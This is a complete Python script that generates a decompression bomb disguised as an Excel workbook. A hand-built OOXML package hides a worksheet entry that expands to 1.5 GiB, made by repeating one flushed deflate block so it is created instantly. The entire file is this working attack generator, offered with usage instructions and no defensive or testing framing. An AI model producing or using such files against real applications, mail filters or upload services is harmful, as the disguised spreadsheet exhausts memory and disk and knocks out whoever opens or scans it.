#!/usr/bin/python3
"""Writes a workbook whose one sheet inflates to 1.5 GiB (a zip bomb).

The deflate stream is one compressed 16 MiB block of spaces repeated: after a
full flush the compressor's output for the same input repeats, so the file is
made in a second without inflating anything. usage: mkbomb.py OUT.xlsx
"""
import struct, sys, zlib

CHUNK = b" " * (16 << 20)
REPEAT = 96                       # 96 x 16 MiB = 1.5 GiB

def deflated_bomb():
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(CHUNK) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(CHUNK) + c.flush(zlib.Z_FULL_FLUSH)
    data = first + again * (REPEAT - 1) + c.flush()
    crc = 0
    for _ in range(REPEAT):
        crc = zlib.crc32(CHUNK, crc)
    return data, crc, len(CHUNK) * REPEAT

def member(name, data, crc, size, method):
    return name.encode(), data, crc, size, method

def write(out, members):
    blob, central = b"", b""
    for name, data, crc, size, method in members:
        off = len(blob)
        blob += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x5C21, crc,
                            len(data), size, len(name), 0) + name + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x5C21,
                               crc, len(data), size, len(name), 0, 0, 0, 0, 0, off) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central),
                      len(blob), 0)
    with open(out, "wb") as f:
        f.write(blob + central + end)

def plain(name, text):
    raw = text.encode()
    return member(name, raw, zlib.crc32(raw), len(raw), 0)

bomb, crc, size = deflated_bomb()
write(sys.argv[1], [
    plain("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
    plain("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
          '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'),
    plain("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
          'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
          'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
    member("xl/worksheets/sheet1.xml", bomb, crc, size, 8),
])
